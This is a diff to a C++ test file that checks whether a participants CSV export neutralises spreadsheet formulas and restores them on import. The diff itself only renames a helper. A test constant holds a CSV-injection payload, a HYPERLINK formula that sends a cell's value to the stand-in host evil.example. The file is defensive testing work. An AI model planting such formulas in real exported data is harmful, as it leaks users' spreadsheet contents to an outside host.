@@ -16,7 +16,7 @@ namespace {
 
 const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Kim\")";
 
-Participant person(ParticipantId id, std::string name, std::string affiliation) {
+Participant cellPerson(ParticipantId id, std::string name, std::string affiliation) {
     Participant p;
     p.id = id;
     p.name = std::move(name);
@@ -43,8 +43,8 @@ TEST_CASE("spreadsheet cells: neutralising is undone exactly by restoring, for e
 }
 
 TEST_CASE("spreadsheet cells: the participants CSV export neutralises formulas and imports them back unchanged") {
-    const std::vector<Participant> people = {person(1, kHyperlink, "+82 Seoul"), person(2, "@admin", "-"),
-                                             person(3, "'=already", "plain")};
+    const std::vector<Participant> people = {cellPerson(1, kHyperlink, "+82 Seoul"), cellPerson(2, "@admin", "-"),
+                                             cellPerson(3, "'=already", "plain")};
     const std::string csv = formatParticipantsCsv(people);
     CHECK_FALSE(csv.find(",\"=HYPERLINK") != std::string::npos);
     CHECK(csv.find(",\"'=HYPERLINK") != std::string::npos);
